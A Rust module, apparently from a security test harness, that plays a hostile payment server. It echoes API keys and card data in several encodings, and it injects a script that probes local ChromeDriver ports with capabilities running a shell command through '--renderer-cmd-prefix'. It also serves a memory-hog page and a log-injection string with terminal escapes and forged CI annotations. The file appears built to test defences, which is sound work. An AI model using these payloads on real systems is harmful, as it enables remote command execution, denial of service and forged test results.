//! What the hostile front sends: the scripts it puts in issuer pages, the
//! body that would command a terminal and a CI log, and the echo of what it
//! was sent, re-encoded.

use base64::Engine as _;
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::Response;
use serde_json::{Value, json};

use super::{Answer, loopback::chromedriver_ports};

/// What the merchant's server sent to the front.
pub(super) struct Sent {
    pub(super) authorization: Option<String>,
    pub(super) body: Value,
}

/// Submit's answer with what it was sent echoed in other encodings.
pub(super) fn echo((sent, answer): (Sent, Answer)) -> Answer {
    let (mut parts, body) = answer.into_parts();
    let bytes = futures_util::FutureExt::now_or_never(body.collect())
        .and_then(Result::ok)
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    let Ok(mut json) = serde_json::from_slice::<Value>(&bytes) else {
        return Response::from_parts(parts, Full::new(bytes));
    };
    let key = sent
        .authorization
        .as_deref()
        .and_then(|a| a.split_once(' '))
        .map(|(_, key)| key.to_owned())
        .unwrap_or_default();
    let card = &sent.body["paymentTypeDetails"]["creditcard"];
    let number = card["number"].as_str().unwrap_or_default().to_owned();
    let cvv = card["CVV"].as_str().unwrap_or_default().to_owned();
    let grouped = |sep: &str| grouped(&number, sep);
    let b64 = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let url_encoded: String = url::form_urlencoded::byte_serialize(key.as_bytes()).collect();
    let echo = json!({
        "key_url": url_encoded,
        "key_base64": b64(&key),
        "key_hex": key.bytes().map(|b| format!("{b:02x}")).collect::<String>(),
        "key_entities": key.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>(),
        "credential": format!("Basic {}", b64(&format!("shop:{key}"))),
        "card_spaces": grouped(" "),
        "card_dashes": grouped("-"),
        "card_base64": b64(&number),
        "note": format!("CVV {cvv} checked; cvv={cvv}"),
        "cvc_code": cvv,
        "cvn": cvv,
        "card_security_code": cvv,
    });
    if let Some(payload) = json.get_mut("payload").and_then(Value::as_object_mut) {
        payload.insert("echo".to_owned(), echo);
    }
    if let Ok(value) = http::HeaderValue::from_str(&cvv) {
        parts.headers.insert("cvn", value);
    }
    if let Ok(value) = http::HeaderValue::from_str(&format!("Basic {}", b64(&format!("m:{key}")))) {
        parts.headers.insert("x-echo-authorization", value);
    }
    parts.headers.remove("content-length");
    Response::from_parts(parts, Full::new(Bytes::from(json.to_string())))
}

/// A card number in groups of four digits, as people write it.
pub fn grouped(number: &str, separator: &str) -> String {
    number
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join(separator)
}

/// The takeover: hide the form, try every ChromeDriver port, report, show
/// the form; the confirming click opens a popup that pings.
pub(super) fn takeover_script(marker: &std::path::Path, journey: &str) -> String {
    let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .unwrap_or("chromium");
    let capabilities = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {
        "binary": chromium,
        "args": [
            "--headless",
            "--no-sandbox",
            // Chromium splits the prefix on spaces, so the command has none.
            format!("--renderer-cmd-prefix=/bin/sh -c touch${{IFS}}{}", marker.display()),
        ],
    }}}});
    format!(
        r#"<script>
(async () => {{
  const forms = [...document.querySelectorAll('form')];
  const holder = document.body;
  for (const form of forms) form.remove();
  const ports = {ports};
  const body = JSON.stringify({capabilities});
  const tries = [];
  for (const port of ports) for (const path of ['/session', '/wd/hub/session', '/status']) {{
    const url = 'http://127.0.0.1:' + port + path;
    tries.push(fetch(url, {{method: 'POST', mode: 'no-cors', headers: {{'Content-Type': 'text/plain'}}, body}})
      .then(() => 'sent ' + url, () => 'refused ' + url));
    tries.push(fetch(url, {{method: 'POST', headers: {{'Content-Type': 'text/plain'}}, body}})
      .then(r => r.text().then(t => 'read ' + url + ' ' + r.status + ' ' + t.slice(0, 300)), () => 'unreadable ' + url));
  }}
  const results = await Promise.all(tries);
  await fetch('/hostile/report', {{method: 'POST', body: JSON.stringify({{ports, results}})}});
  for (const form of forms) {{
    holder.appendChild(form);
    for (const button of form.querySelectorAll('button, input[type=submit]')) {{
      button.addEventListener('click', () => window.open('/hostile/popup?journey={journey}', '_blank'));
    }}
  }}
}})();
</script>"#,
        ports = json!(chromedriver_ports()),
    )
}

/// A popup that pings the front for as long as it lives.
pub(super) const POPUP: &str = r#"<!doctype html><title>popup</title><script>
const journey = new URLSearchParams(location.search).get('journey');
const ping = () => fetch('/hostile/alive?' + journey).catch(() => {});
ping();
setInterval(ping, 50);
</script><p>still here</p>"#;

/// Allocates and touches memory without ever yielding, until stopped: the
/// page answers no command while it runs.
pub(super) const MEMORY_HOG: &str = r#"<script>
window.hoard = [];
for (;;) { const block = new Uint8Array(16 * 1024 * 1024); block.fill(7); window.hoard.push(block); }
</script>"#;

/// A body that would rewrite a terminal and command a CI system.
pub(super) const LOG_INJECTION: &str = "\u{1b}]52;c;cGF5Y29uZg==\u{7}\u{1b}[2J\u{1b}]0;pwned\u{7}\
    \rresult: PASSED, every selected scenario passed (exit code 0)\n\
    ::error::forged annotation\n  ::add-mask::payconf\n::stop-commands::resume\n\
    text ##[error]forged in a line\n\u{9b}31m\u{202e}reversed";
